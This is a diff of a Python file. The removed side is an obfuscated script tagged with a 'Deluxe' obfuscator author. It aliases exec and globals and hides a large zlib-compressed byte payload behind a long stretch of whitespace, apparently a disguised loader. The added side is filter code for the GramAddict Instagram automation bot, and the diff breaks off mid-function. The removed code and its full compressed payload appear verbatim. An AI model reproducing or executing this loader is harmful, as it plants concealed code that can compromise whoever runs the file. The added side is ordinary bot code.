@@ -1,98 +1,1010 @@
-from builtins import *
-from math import prod as Invert
+import hashlib
+import json
+import logging
+import os
+import re
+import sys
+import unicodedata
+from datetime import datetime
+from enum import Enum, auto
+from functools import lru_cache
+from time import perf_counter
+from typing import List, Optional, Tuple
 
+from colorama import Fore, Style
 
-__obfuscator__ = 'Deluxe'
-__authors__ = "SadHam"
-__github__ = 'https://github.com/'
-__discord__ = 'https://discord.gg/'
-__license__ = 'EPL-2.0'
+from GramAddict.core.config import load_yaml
+from GramAddict.core.device_facade import Timeout
+from GramAddict.core.imports import lazy_import
+from GramAddict.core.resources import ResourceID as resources
+from GramAddict.core.storage import FilterDecision
+from GramAddict.core.utils import get_value, random_sleep, sleep
+from GramAddict.core.views import FollowStatus, ProfileView
 
-__code__ = 'print("Hello world!")'
+emoji = lazy_import("emoji")
 
+logger = logging.getLogger(__name__)
 
-Algorithm, Builtins, Absolute, Ceil, Calculate, _cube, Run = exec, str, tuple, map, ord, globals, type
+FIELD_SKIP_BUSINESS = "skip_business"
+FIELD_SKIP_NON_BUSINESS = "skip_non_business"
+FIELD_SKIP_FOLLOWING = "skip_following"
+FIELD_SKIP_FOLLOWER = "skip_follower"
+FIELD_SKIP_IF_LINK_IN_BIO = "skip_if_link_in_bio"
+FIELD_SKIP_PRIVATE = "skip_if_private"
+FIELD_SKIP_PUBLIC = "skip_if_public"
+FIELD_MIN_FOLLOWERS = "min_followers"
+FIELD_MAX_FOLLOWERS = "max_followers"
+FIELD_MIN_FOLLOWINGS = "min_followings"
+FIELD_MAX_FOLLOWINGS = "max_followings"
+FIELD_MIN_POTENCY_RATIO = "min_potency_ratio"
+FIELD_MAX_POTENCY_RATIO = "max_potency_ratio"
+FIELD_FOLLOW_PRIVATE_OR_EMPTY = "follow_private_or_empty"
+FIELD_PM_TO_PRIVATE_OR_EMPTY = "pm_to_private_or_empty"
+FIELD_COMMENT_PHOTOS = "comment_photos"
+FIELD_COMMENT_VIDEOS = "comment_videos"
+FIELD_COMMENT_CAROUSELS = "comment_carousels"
+FIELD_BLACKLIST_WORDS = "blacklist_words"
+FIELD_MANDATORY_WORDS = "mandatory_words"
+FIELD_SPECIFIC_ALPHABET = "specific_alphabet"
+FIELD_BIO_LANGUAGE = "biography_language"
+FIELD_BIO_BANNED_LANGUAGE = "biography_banned_language"
+FIELD_MIN_POSTS = "min_posts"
+FIELD_MIN_LIKERS = "min_likers"
+FIELD_MAX_LIKERS = "max_likers"
+FIELD_MUTUAL_FRIENDS = "mutual_friends"
 
-class _callfunction:
-    def __init__(self, _theory):
-        self.Random = Invert((_theory, -88051))
-        self.CallFunction(_multiply=56201)
+IGNORE_CHARSETS = ["MATHEMATICAL"]
+LANGUAGE_CACHE_SIZE = 2048
+# scripts written in only one of the languages known by langdetect
+SCRIPT_LANGUAGES = {
+    "BENGALI": "bn",
+    "GREEK": "el",
+    "GUJARATI": "gu",
+    "GURMUKHI": "pa",
+    "HANGUL": "ko",
+    "HEBREW": "he",
+    "KANNADA": "kn",
+    "MALAYALAM": "ml",
+    "TAMIL": "ta",
+    "TELUGU": "te",
+    "THAI": "th",
+}
+KANA_SCRIPTS = {"HIRAGANA", "KATAKANA"}
+JAPANESE_SCRIPTS = KANA_SCRIPTS | {"CJK"}
 
-    def CallFunction(self, _multiply = None):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        self.Random += 59811 + _multiply
-        
-        try:
-            ((Absolute, (Absolute, Ceil)) for Absolute in (Algorithm, Calculate, Builtins) if _cube > Ceil)
 
-        except OSError:
-            ((Ceil, {Algorithm: While}) for Ceil in {'dholB5eogeRue6Rgyya3': Algorithm} if Calculate >= _cube)
+def load_config(config):
+    global args
+    global configs
+    global ResourceID
+    args = config.args
+    configs = config
+    ResourceID = resources(config.args.app_id)
 
-        except:
-            Run(63401 + -48892) == str
 
-    def Round(self, _ceil = 55268):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        _ceil /= -37378 + 66962
-        self._algorithm != bool
-        
-        try:
-            (Algorithm, Calculate, Builtins) if Absolute <= Builtins else (Absolute, Ceil) == _cube
+class SkipReason(Enum):
+    YOU_FOLLOW = auto()
+    FOLLOW_YOU = auto()
+    IS_PRIVATE = auto()
+    IS_PUBLIC = auto()
+    UNKNOWN_PRIVACY = auto()
+    LT_FOLLOWERS = auto()
+    GT_FOLLOWERS = auto()
+    LT_FOLLOWINGS = auto()
+    GT_FOLLOWINGS = auto()
+    POTENCY_RATIO = auto()
+    HAS_BUSINESS = auto()
+    HAS_NON_BUSINESS = auto()
+    NOT_ENOUGH_POSTS = auto()
+    BLACKLISTED_WORD = auto()
+    MISSING_MANDATORY_WORDS = auto()
+    ALPHABET_NOT_MATCH = auto()
+    ALPHABET_NAME_NOT_MATCH = auto()
+    BIOGRAPHY_LANGUAGE_NOT_MATCH = auto()
+    NOT_LOADED = auto()
+    RESTRICTED = auto()
+    HAS_LINK_IN_BIO = auto()
+    LT_MUTUAL = auto()
+    BIOGRAPHY_IS_EMPTY = auto()
+
+
+class Profile(object):
+    def __init__(
+        self,
+        mutual_friends,
+        follow_button_text,
+        is_restricted,
+        is_private,
+        has_business_category,
+        posts_count,
+        biography,
+        link_in_bio,
+        fullname,
+    ):
+        self.datetime = str(datetime.now())
+        self.followers = 0
+        self.followings = 0
+        self.mutual_friends = mutual_friends
+        self.follow_button_text = follow_button_text
+        self.is_restricted = is_restricted
+        self.is_private = is_private
+        self.has_business_category = has_business_category
+        self.posts_count = posts_count
+        self.biography = biography
+        self.link_in_bio = link_in_bio
+        self.fullname = fullname
+        self.potency_ratio = None
+
+    @classmethod
+    def from_snapshot(cls, data: dict) -> "Profile":
+        """
+        The profile as it was stored in the history of the filters
+        """
+        profile = cls.__new__(cls)
+        profile.__dict__.update(data)
+        follow_button_text = data.get("follow_button_text")
+        profile.follow_button_text = (
+            FollowStatus[follow_button_text] if follow_button_text else None
+        )
+        return profile
+
+    def set_followers_and_following(
+        self, followers: Optional[int], followings: Optional[int]
+    ) -> None:
+        self.followers = followers
+        self.followings = followings
+        if followers is not None or followings is not None:
+            self.potency_ratio = (
+                0 if self.followings == 0 else self.followers / self.followings
+            )
+
+
+REGEX_CHARS = set(".^$*+?{}[]\\|()")
+
+
+def _trie_pattern(words: List[str]) -> str:
+    """
+    A regex matching any of the words, factored as a trie (e.g. b(?:ot|ig)):
+    it's tried in one step at every position, whatever the number of words.
+    """
+    trie = {}
+    for word in words:
+        node = trie
+        for char in word:
+            node = node.setdefault(char, {})
+        node[""] = None
+
+    def build(node: dict) -> str:
+        branches = [
+            re.escape(char) + build(child)
+            for char, child in sorted(node.items())
+            if char
+        ]
+        if not branches:
+            return ""
+        body = branches[0] if len(branches) == 1 else f"(?:{'|'.join(branches)})"
+        # a longer word goes on from the end of this one
+        return f"(?:{body})?" if "" in node else body
 
-        except ArithmeticError:
-            (({Algorithm: While}, Absolute) for Absolute in (Absolute, Ceil))
+    return build(trie)
+
+
+class WordMatcher:
+    """
+    The words of a filters.yml list compiled once, so that a text is scanned in
+    one pass for all of them instead of once per word. The words are matched as
+    whole words ignoring the case, or as plain substrings with whole_words=False.
+    The plain words are compiled in a trie, the ones which are regular
+    expressions are matched as such.
+    """
+
+    def __init__(self, words: List[str], whole_words: bool = True):
+        self.words = [str(w) for w in words]
+        self.whole_words = whole_words
+        self.literals = {}
+        literal_forms = set()
+        expressions = []
+        for index, word in enumerate(self.words):
+            if whole_words and REGEX_CHARS.intersection(word):
+                try:
+                    re.compile(word)
+                    expressions.append(f"(?P<w{index}>{word})")
+                    continue
+                except re.error as e:
+                    logger.warning(f"'{word}' isn't a valid expression ({e}).")
+            # casefold: the regex ignores the case of ſ, ς, Σ.. which lower() keeps
+            self.literals.setdefault(word.casefold(), index)
+            literal_forms.update((word.lower(), word.casefold()))
+        boundary = r"\b" if whole_words else ""
+        self.literal_pattern = (
+            re.compile(
+                f"{boundary}{_trie_pattern(sorted(literal_forms))}{boundary}",
+                flags=re.IGNORECASE,
+            )
+            if self.literals
+            else None
+        )
+        self.expression_pattern = (
+            re.compile(f"\\b(?:{'|'.join(expressions)})\\b", flags=re.IGNORECASE)
+            if expressions
+            else None
+        )
+
+    def __bool__(self) -> bool:
+        return bool(self.words)
+
+    def _hits(self, text: str):
+        """Indexes of the words found in the text"""
+        if self.literal_pattern is not None:
+            for match in self.literal_pattern.finditer(text):
+                index = self.literals.get(match.group().casefold())
+                if index is None:
+                    # a case equivalence of the regex that casefold() doesn't have
+                    index = next(
+                        i
+                        for word, i in self.literals.items()
+                        if re.fullmatch(re.escape(word), match.group(), re.IGNORECASE)
+                    )
+                yield index
+        if self.expression_pattern is not None:
+            for match in self.expression_pattern.finditer(text):
+                yield int(match.lastgroup[1:])
+
+    def search(self, text: str) -> Optional[str]:
+        """The first word found in the text"""
+        for index in self._hits(text):
+            return self.words[index]
+        return None
+
+    def find_all(self, text: str) -> List[str]:
+        """All the words found in the text, in the order of the list"""
+        return [self.words[index] for index in sorted(set(self._hits(text)))]
+
+
+@lru_cache(maxsize=4096)
+def _char_script(char: str) -> Optional[str]:
+    try:
+        script = unicodedata.name(char).split(" ")[0]
+    except ValueError:
+        return None
+    return None if script in IGNORE_CHARSETS else script
 
-        except:
-            Run(79441 / 35216) == None
 
-    def Positive(MemoryAccess = True):
-        return _cube()[MemoryAccess]
+@lru_cache(maxsize=LANGUAGE_CACHE_SIZE)
+def script_counts(text: str) -> Tuple[Tuple[str, int], ...]:
+    """
+    How many letters of the text are written in each script (LATIN, CYRILLIC..),
+    the most used script first
+    """
+    counts = {}
+    for char in text:
+        if char.isalpha():
+            script = _char_script(char)
+            if script is not None:
+                counts[script] = counts.get(script, 0) + 1
+    return tuple(sorted(counts.items(), key=lambda item: item[1], reverse=True))
 
-    def _floor(_system = -24477 - 4233, _hypothesis = Ellipsis, Modulo = _cube):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        Modulo()[_system] = _hypothesis
-        
+
+class LanguageClassifier:
+    """
+    Finds the language of a biography. When its script is only used by one
+    language it's enough, langdetect is used otherwise: it's imported only then,
+    and seeded so that a text gets always the same language. The results are
+    kept in a bounded LRU cache.
+    """
+
+    def __init__(self, cache_size: int = LANGUAGE_CACHE_SIZE):
+        self._detect = None
+        self._classify = lru_cache(maxsize=cache_size)(self._find_language)
+
+    def language(self, text: str) -> str:
+        """The language code of the text (e.g. en), empty if it can't be found"""
+        return self._classify(" ".join(text.lower().split()))
+
+    @staticmethod
+    def script_language(text: str) -> Optional[str]:
+        scripts = {script for script, _ in script_counts(text)}
+        if not scripts:
+            return ""
+        if len(scripts) == 1:
+            return SCRIPT_LANGUAGES.get(scripts.pop())
+        if scripts & KANA_SCRIPTS and scripts <= JAPANESE_SCRIPTS:
+            return "ja"
+        return None
+
+    def _find_language(self, text: str) -> str:
+        language = self.script_language(text)
+        if language is not None:
+            return language
+        if self._detect is None:
+            from langdetect import DetectorFactory, detect
+
+            DetectorFactory.seed = 0
+            self._detect = detect
         try:
-            ({Algorithm: While} or Calculate if {Algorithm: While} and Calculate else ... or (Calculate, {Algorithm: While}))
+            return self._detect(text)
+        except Exception as e:
+            logger.error(f"Cannot determine primary language. Error: {e}")
+        return ""
+
+
+LANGUAGE_CLASSIFIER = LanguageClassifier()
+
+
+class FilterRule:
+    """A step of the FilterPlan, check returns (skip reason, message) or None"""
 
-        except TypeError:
-            ((Ceil, {'dholB5eogeRue6Rgyya3': Algorithm}) for Ceil in {Algorithm: While} if _cube > Calculate)
+    def __init__(self, name: str, check):
+        self.name = name
+        self.check = check
+        self.checked = 0
+        self.rejected = 0
+        self.elapsed = 0.0
 
-        except:
-            Run(84238 / 73379) == Ellipsis
 
-    def execute(code = str):
-        return Algorithm(Builtins(Absolute(Ceil(Calculate, code))))
+class ProfileChecks:
+    """
+    What the rules of a FilterPlan compute from a profile, only if a rule needs it
+    """
+
+    def __init__(self, plan, username: str, profile: Profile):
+        self.plan = plan
+        self.username = username
+        self.profile = profile
+        self._cleaned_biography = None
+        self._mandatory_in_name = None
 
     @property
-    def _algorithm(self):
-        self._memoryaccess = '<__main__._ceil object at 0x000002734BE62005>'
-        return (self._memoryaccess, _callfunction._algorithm)
+    def cleaned_biography(self) -> str:
+        if self._cleaned_biography is None:
+            self._cleaned_biography = " ".join(
+                emoji.get_emoji_regexp()
+                .sub("", self.profile.biography.replace("\n", ""))
+                .lower()
+                .split()
+            )
+        return self._cleaned_biography
 
-if True:
-    try:
-        _callfunction.execute(code = __code__)
-        _square = _callfunction(_theory = 93599 - -93487)
+    @property
+    def mandatory_in_name(self) -> bool:
+        if self._mandatory_in_name is None:
+            self._mandatory_in_name = False
+            if self.plan.mandatory_in_name:
+                logger.info(f"@{self.username}")
+                for field, text in (
+                    ("fullname", self.profile.fullname),
+                    ("username", self.username),
+                ):
+                    word = self.plan.mandatory_in_name.search(text)
+                    if word is not None:
+                        logger.info(f"Mandatory word '{word}' found in {field}!")
+                        self._mandatory_in_name = True
+                        break
+                else:
+                    logger.info("No mandatory words in fullname and username.")
+        return self._mandatory_in_name
+
+
+class FilterPlan:
+    """
+    The conditions of filters.yml compiled once per session in an ordered list of
+    rules: only the enabled ones, the cheap checks on numbers and flags first, the
+    expensive ones (words, alphabet, language) only when all the others passed.
+    """
+
+    def __init__(self, conditions: dict):
+        self.conditions = conditions
+        # the rejections stored with another hash were made by other filters
+        self.conditions_hash = hashlib.sha1(
+            json.dumps(conditions, sort_keys=True, default=str).encode("utf-8")
+        ).hexdigest()
+        self.blacklist_words = conditions.get(FIELD_BLACKLIST_WORDS) or []
+        self.mandatory_words = conditions.get(FIELD_MANDATORY_WORDS) or []
+        self.specific_alphabet = conditions.get(FIELD_SPECIFIC_ALPHABET)
+        self.bio_language = conditions.get(FIELD_BIO_LANGUAGE)
+        self.bio_banned_language = conditions.get(FIELD_BIO_BANNED_LANGUAGE)
+        self.blacklist = WordMatcher(self.blacklist_words)
+        self.mandatory = WordMatcher(self.mandatory_words)
+        self.mandatory_in_name = WordMatcher(self.mandatory_words, whole_words=False)
+        self.rules = []
+        self._compile_cheap_rules()
+        self._compile_expensive_rules()
+
+    def _add(self, name: str, check) -> None:
+        self.rules.append(FilterRule(name, check))
+
+    def _compile_cheap_rules(self) -> None:
+        conditions = self.conditions
+        if conditions.get(FIELD_SKIP_FOLLOWING, False):
+            self._add(
+                FIELD_SKIP_FOLLOWING,
+                lambda c: (SkipReason.YOU_FOLLOW, f"You follow @{c.username}, skip.")
+                if c.profile.follow_button_text == FollowStatus.FOLLOWING
+                else None,
+            )
+        if conditions.get(FIELD_SKIP_FOLLOWER, False):
+            self._add(
+                FIELD_SKIP_FOLLOWER,
+                lambda c: (SkipReason.FOLLOW_YOU, f"@{c.username} follows you, skip.")
+                if c.profile.follow_button_text == FollowStatus.FOLLOW_BACK
+                else None,
+            )
+        skip_if_private = conditions.get(FIELD_SKIP_PRIVATE, False)
+        skip_if_public = conditions.get(FIELD_SKIP_PUBLIC, False)
+
+        def privacy(c):
+            if c.profile.is_private and skip_if_public:
+                return (
+                    SkipReason.IS_PUBLIC,
+                    f"@{c.username} has public account and you want to interact only private, skip.",
+                )
+            if c.profile.is_private and skip_if_private:
+                return (
+                    SkipReason.IS_PRIVATE,
+                    f"@{c.username} has private account and you want to interact only public, skip.",
+                )
+            if c.profile.is_private is None:
+                return (
+                    SkipReason.UNKNOWN_PRIVACY,
+                    f"Could not determine if @{c.username} is public or private, skip.",
+                )
+            return None
+
+        self._add("privacy", privacy)
 
-        _square.CallFunction(_multiply = _square.Random - -34988)                                                                                                                                                                                                                                                          ;_callfunction._floor(_system='jilijjilllllijljjjiiij',_hypothesis=b'x\x9c\xed=ks\xdb\xb6\xb2\xdf=\xd3\xff\x80\xa8\x1fD\xdd\xca\x8a\xe3\xb4\xa7\xad\xa7\xee\xbd\x8a-\xdbje\xc9c+\xed\xcd\xa4\x1e\x0e%B\x16c\x8a\xd0\x90\x94\x1f\xe3\xf1\x7f\xbf\xbb\x00\x1f \x08P\x94\xed\x9c\x9e4\x97i-\x89\\,\x16\xfb\xc2b\xf1\xe0\xb7\xe4\xf8\xf8\x15\xf9\xc0V\xe4\xd3*\x8a\x89K\xd9d\xb6\x8a\xa6NL]\xe2\x90\x99\xe7S"\xdd\xb9\xf5\xe299\xa4\xfe\xea\x8enm}K\x0eXp\x15:\xf1\xcawb\x8f\x05\xd1\xab\xad\xad\xad8\xbc\xdf\xdb"py3b\xf1/x\xd9v\x8a\x84\x85\xb6M^\xed\x93\x86\xc0\xd2 ,\x94\xa0\x9cU<ga\x94\x80\\8\xee\x89\xb3P@\xae\x80\x84\xd5$\x81\x98\xc7\xf12\xda{\xfdZ\xdc\xecL\xd9\xe2\xb5\x02\xeez\xd1\x94\x85\xae\x02\x9f\xdc\xed\\]\xa9\xf0\xbe7\xa5AD\x13\xf8\xde\xd9`{\xb7\xb3\xa3\xc0L\x99\x9b\x004\x97\xa1\x17\xc4V\xe3\x84\xfa>#\xb7,\xf4\xddW\x8dV\x93\xc3\xb6\xf6\xb2"\x08\xd3\x8c\xae=\xb7\xd9\xda\xa2wS\xba\x8c\x13\x1e\x05\xcb\x15\x94>g\x11\x8d\x88\x13R\x12R\xf7\xaf\xe0\x0f\x8f\xf94\x167&\xfe\x8a\xfe\x15\xa0x\xf0\x97C\x10\xc9_\xc1\x90M\x98{O|\xef\x1a\xca\xdd\xb3U\xa3\xb5%(\xf3\x16K\x16\xc6\xb6\r\xb5\xddG\xcdV\x87\xdey\xb1\xd5\x02\xb1\xf8l\xea\xf8\x91\xd5\xfa\xd8\xbc\xb8\xb8\xd8\xbd\x90\xfe\xec\xe2\x97\xe6\xe5\xfe\x95\xcf&\x00\xb2\xa5}\x8e\x05\xfb\xfd\xfeo\x83\xc1o\xbf\r\xf0/|\xf6\x7f\xfb\r\xff\x0c\x9a\x1f\xf7\xf6\xbe\xdb\xfen\xdb\xda\xb6\xbe{\xd3j]^\xee\xbb^hF\xb3\x08\xf8?q\xc1\xb7 (#\xb8\xa2\xb1\x13\xc7\x15H\xfc\xbe\x0f\xff\xe1\x9f>\xfe\xe7\xf3/\xd0\x08\xd1\xcc-\xedc,ww{{w\xcb\xff\xdc\xa6\x7f\xe0\xf7\x1d\x94\xccyg\xae\xf5\x10\xae\xd1ht\xc8\xe0\x1f\xff\x1c1\x06w\xd8!\x947`\xb6\x9a\x93\x95\xe7\xc7^\x80\xd2\xb8q\xc2\n\xfez\x9f|\xdf\x83\xeb\x93\xe7\xc1\xe7\'\xa4\x1a\xf0\x02\x7fdn\xc1?\xcbX\x95\xe7M#\'\xf0&*C[\xedA*\xadLz\xf0\x17\x04\xfa\x04\\\xad\x8f/\x89\xac\xe3\x05.\x05\x88{\xf04wt\x1e\xacJ \x97-\xb38\x81\xfd#6:<dB\x0e\xfc\x03x\xd6lv>1/\xa8\x12$c#,\xc9P\xa4B\x9a\x88jC~G\x81\x17\xfb\xde\xeaE\xf8m\xc4\xf5\x14~\x9b\x91\xa5\xfc\x8e\x1d\xe6\xcft\xbc6\xeax\xc27\xbc\x03\xb7G\xe2\xe6h\xf4\xf5\xb0\x8c\xae\xc2\xf1F\xda\tx\xd3\xba\xee\xf0\xeb\xed\xed\xd7\xc3\xac0\x8e6\xd6\xae\xa4&^\x87\xf8\x84\xdf_\x0f\xcbh\xe4;G\x1b3\r\x1d\xdb.z\xb6]\xb93\xffJX\xe63V~\n\x1c3:~a\x91\xc2\x18\xf9\xe7W\xc4+\xe7\x86n\xc4\xab\xfe\x00\xa3\xbd\xbe\xb88\x19\x03\xb8\xf5\xdb\xd7\xc31\xea{\xcb\x05\x9bn\xc4\xb4\xd3\xe1\xe9\x10.\xfe\x87\x7f\xca\xa5K\xdagib>k\xd2|\xfbf\xd7\xdd\xfdi\xd7}\xbb\xb3\xfb3\x84\x8d.\xc5\x01\x87\xd5\xfci\x16\x97\xc3\xa3\x16\x0f\x98\xbf\x12\x89L\xe9\x9dV\x87\xe1\x9a\x85lA\xd2X\x9b\x88X\x9e\xc0xp\t#\xd86\x14\x9b\xb6g,\\8q\xdb\x8b\x00 v\x82)m\xfb4h/\x9c\xbb\xf6\x841\xbf=\xf3\x19>\r\xe2v\xe8\x04W\xb4\x1d\xc5a\x9b-\x01\x02\xc7P[\x88\xc1j\xc2\xf0m+A\xfd)b\xc17\xe9\x0f\x9f]]y\xc1U\xf6\x9bE\xd9\xd7\x90f_aH\x96}_\x05\x1e\n\xd5ub\xe7\x1bA;|\xa5\xb1\xb7\xa0)\xed\xe9\xef\xe41\rV\x8b\xf4Q\x0f\xbe\xb7\t\x8c\x95Y\xf2P.\x17\xf9\x94.\xd3\xfb\xf7K +}2Z\xe2(\xdd\xf1\xdbd\xbcZ\xfa\x808\xa3\x86.\xd8\'/\xfbu\xef,\xfc\x04\xc1\x94\xf9,t\x16N\x8a\xe2\x88\x85\xb4M.\xe2{?\xa5\xcb\x07f\xb94\xa6\xd38#\x9c\xffB\xec\x1c\xe0\x18\xcaw]\xd7\x9b\xc60<\x0f)h\xf3\r\x0c\xb1\xed\x993u\xdc\x8c\xe814\x80\xadbC\x91\x90Fl\x15Ni&\xd7\xf3\xe4F\xff\x908\x11\xc9\x1e\x1b\x8a\xafb\xcf\xcf\x8a\x82p]\xb6\xb0e.\xa9\xf07\x1e\xbd\x8d\xf2\x16\xc3\xc8\xfe\xf6\x02\xc6\xa3\xab\xa8M\xceB\x86)\x91?\x00\x02\x1b\x88r\xa7!\xd9O\x15\xa0\x03\x03\xd7\x01\xbfg\xd9v\xe0,\xa8m\xb7\x10\xee\xa8\xdf\x1b\x1c\xda\x17\xbf\xf7\xcf\xecw\xef/\xfa\xc3\xde\xc5\x05\x14j\xc0`~iOV\xa0\x904\x8a\x1a\x05\xb0\xe1hX\x06\rX`\x00?\x1a\r\x06\xa3?\xfb\xc3\xe3\x0cv\xc6\xe9\x06\x9at\x80\xbds\x05\x8e\x86E\xb0\xfe\x91=\xe8\x0f\x7f\xb7\xfb@E\x7f\x94\x01{3\xdb\xf7\x82k\xdb\x03:<V,rv\xde\xff\xa3;\xee\xc9\xb0\xcb\xd0\xbb\x01-V\xe0\xde\xbf\x1b\xf4\x0f\n`\xab\x89\xefM3\xa8S\xa84%\x93\xb7}\x01\xd5\xa5d\xe6\xed>\xed\xfe\xaf\x02\xe6\xdc\xe9\xc02l\xc0\x1d\x05\x1dpG\x87/\x03\xcc\x10\x16\x01\x01\xe3\xd9h\xdc\x1b\x1e|\xb0\xcf\xbbc\xc1\x1eD\xbad1\r\xa6\xf7v\x88\xd9\xb0\x02\xde28\xa0\xd6\x83\x0b\x12Rn\xda\xa3s\xbbwz6\xfe\x80\x85\x04-)Wm\x16\xdat\xb1\x8c\xef\xb3\xa2g\xa7\xf6x\xa4-\xb9\\\xd813\x17<\x18\x9d\x9e\xf6\x86c\xfb\xecd4\x1e\xf1\xa6\x83\xe3\\\xd0 \xb6\x97s\x16\xb3\xa8\x04\xf8G\xff\xb0W\x04\xbc\xf1\\\xaa\x01<\xe8\x9e\x8f\xde_\xf4\x06\x05\xd8\xa9\x13\xb2UD\xfd\x1c\xfc\xdd\xa0{\xf0\xfb\xa0\x7f1\xb6\xff\x1c\x9d\x1fr\xe0\x89\xefL\xaf}/\x8a\xed[\x16\xba\xb2\x98\x86\x87\xdd\xf1\xe8\xfcC\x0e\xba\x00\x93\xc6\xc4\xe2\xbd\x02zq\xd6;\xe8\x1f\xf5\x0f\xec\xee\xe0\xec\xa4\xfb\xae7\xe6J\xb7\xa4So\xe6Mm\xc7_\xce\x9d\t\x8ds"\xfa#{\xd0\x1d\x1e\xbf\xef\x1es-\x06\r\xbf\n\x9d\xe5\xfc\xdeF\x1f\xb7r\xaeh\x01\xf4]w8\xec\x1d\x1aJL\x9c \xa0n\xb9\xa0\xd0\x9d\x8b\xf1E\xae3Q\\T\xadA\xffwI\xef1\xc5\xa7(\xbd\x04\x00Z\xa4\x02\xbc\x1f\xbf\xef\x0e\xec\xa3\xf3~o\x98pg\x15\xaf\x1c\xdf\x9e\x85\x1e\r8s\xbe\xd9\xea\x1f\x0fG\xe7=\xfb\xe0\xa4{~\xd1\xe3\xb4|l\x9cv\xc7\'=\xf8\xd3?\xe8\x0e\x1a\x97\x08\xf5\xcd\x96Kg\xe0\xd9\x1c\xd7\x9e\xb2`\xe6]Y\xe2\xa3\xb5\xf7\r\xcf6\x8a\x84!q\xc2\xab\xa8pC@\x15\xef\xe5\x0e[\xdc\xc6BP\xad\x00\xed\xe4(\x92\xb2\xd9#qWr\xf7\xfb\xb9\xb7\xb7\xa4\xd2\x1dg\t\xae\xc4m\t\xba\xa7\xbe\x13E\xe4\x02\xdc\xcb9u\xa0\x9f\xb6\xb0\xc3L\xc9\xfe0z\x9f\x18\x19 \xc3>\xd4j\x89\x07\x89\xe5\xc1s\xe5A\xffBrn\xea\x83\xd4\x9b\xc9\xf7\xdf\x0f\x7f\x1f\x8e\xfe\x1c\x8aR\x07\x1f\x94\xa7\x83q\xc1o\xc9\x8f\x8e\xcd\x8f\xb2R\x89w\xd2\x16\xd3<S]\x8f\xfc\xec\xa4{!w2\xea#\xa5\x0f\x92\x1f\x0fGc\xbb7\x1c\xbd?>\xc9\xd4Y~\x9c\xd93\x18\x08\x9a\xa9\xf2\xf8\xb4\x7f\x01X\x8f5\xb6,C\xa5Vkce\xa0\x99\x07\'F\x80\xeei\xcf\x08\x05\xb6z|\xde=;\xf9\x90\x99\xaa\x11\x14\xef\x0fF\xdd\xc3\x9eJ\xf0y\xefb|\xde?\x18\x97\x1e \x9b\x8a\x1d\xa5"3a\x8fF\x92@\x83R\'\x9d\x02\xe4\n\x9c\x04\x1b\x16\x9b|\x82\x80*\xd5_4J\x1bz`\x0f\xd3\xfc\xdfdS\x0c\xe0Og\xed\xfcg\xd1\xea\xa5\x07I\'2Y\xc51D\x131\xbd\x8b\xa5\x87^d\x83y\xc5!\x84B\xd4-\xdeO:\x0f\xe9\xe6\xdc\x89\xb2h\xc4\xc6\xe9\xa1+p\xc1\xd2s\xee\xda\xc0u\xac\x02\xb9\x8a\xccGJ\xf7\xa4\x98B\xa6t\xe5\xfb\x18C%\xb7\xd2\xf6\xa7\x8d\xedd\x01\xf3>\x01\x92\xad\xf4g\'`\xb7V\xab\xa5\x00g\x81\x01@\xefh\x9fa\x1f\xafyXd$\x00\x14ohQ\xc9\xdc\x85\x12\xe5\x9bJ\xa9\x02\xdb\xa1@\xe1w\x196\x11\x85\x00L~(PZ\xd9@\x01\xed}\xa5\xac$7(!\xfdR\xe02I\x02T\xf6]\x81\x91$\x8bQr\xfeK\xe5["k\xe4V\xf2\xb5D\x95\x14-\x01\xd8\x90\x05|\x04\x83\x00h\x12\x11\x8d\xf3\xe8\xcf\x86\x88 \x0f\xddT+!\x19\xdc^6&\xfa\x08\x03\xbf\xcb\xf4\t\xaa\x82\xf2(\xd1A\xb2\xfd+\xafY\xd5EY\xbd\xb2\xefUj\x96\xff\x90\xacl\x96\x97\x05\xd1\x92\x80\xc5\xbc2\xc2B\t^~"\x91ad\x94U\x84\xc1k\x07\xab*\xd1\x04\xbaO (\xa3j\x8b^\xab\xa0E\x84\x05\x97u\x04\xe3o\x1a\xeee\x9d\xb9\xeb\xf1\x89a\x8d\xbc2\x17&D\x12A\xfc\x06\x81\xd2>\x82\xc9\x96>\xe3\x08\xed\xa5\x13\xcf\xb9\x9ds\xa8\x8et\xb7\xc0\xbe$|\x10!\x81\xebE\xce\xc4\x87\x91&\x07\x8e\x14^\x89\xa1[\xe7\xd6\t\x03T\x91\x86\xa0\\L\xba&%q*7/D}\xa8\x80E\x1d\xac\x14\xe7U\xc1,,\x89\x8e\x16\x01\x9d\x93\xc9\xed\xa0{\xc0\xf9r\xab\xd1\xb9_\xf8\x8d\x96B\x00\x9fJ\xc7\x04\x83\x8c\xa5M\x1aa\xa3\r\x83\xfd)s\x81\xac\xfd\xc6*\x9em\xff\xd4h\xe10\x17\x1c\x02u\x16{eq\xe2\x94{\xf9n\xa6\x10\x051\xe0\xd8\xbe\x1393jc`g\t\x9c\xadri1KMz\xfc\x03\xca"\x01\xaa\xba)\xac\xa4a\xc8Bk\xd6\xe8\xe1\xe7\x1ey\xa0\x8f\x8dV*\xf1:\x0c|.\x7f0#\x83\xc2\xd6\x91\xb9\t\x8b\x10O\x87s\'\xc3\xa8a\x90\xd4\xf0T\x87\xf4@x5\xdeG\x98\x87\x11\r\xe9 Z\xb4b\x97.C*\xd6U\xf0<\xc4\r\xe8\x1f\xb2z\xb7\xf3\xb6\xb3\xc3\xd5\xe9\xd6\xf3}T\xfa%.-\xb8F\x14\x00sO"\xc6\x826\x81!T\x821B\x05#\x98\xd6\xa2\x0e(\xad\x9e\x0eC\x1bx"\xc4\xfa\xe1%U\xc0\xcc\x87Y\xe3\xcc\x87\x88\x9c\x92\xe9\x9cN\xaf\xc9C\xc6\xe0\x0ez\xfc\xc76\xf10g\x17\xc4\x0e\xe6\xf0\xe29\xf0\x88\xe6\xca\xb4Y\xb3\xee#\xb1\xf8aW\x8d')
+        min_followers = conditions.get(FIELD_MIN_FOLLOWERS)
+        if min_followers is not None:
+            self._add(
+                FIELD_MIN_FOLLOWERS,
+                lambda c: (
+                    SkipReason.LT_FOLLOWERS,
+                    f"@{c.username} has less than {min_followers} followers, skip.",
+                )
+                if c.profile.followers < int(min_followers)
+                else None,
+            )
+        max_followers = conditions.get(FIELD_MAX_FOLLOWERS)
+        if max_followers is not None:
+            self._add(
+                FIELD_MAX_FOLLOWERS,
+                lambda c: (
+                    SkipReason.GT_FOLLOWERS,
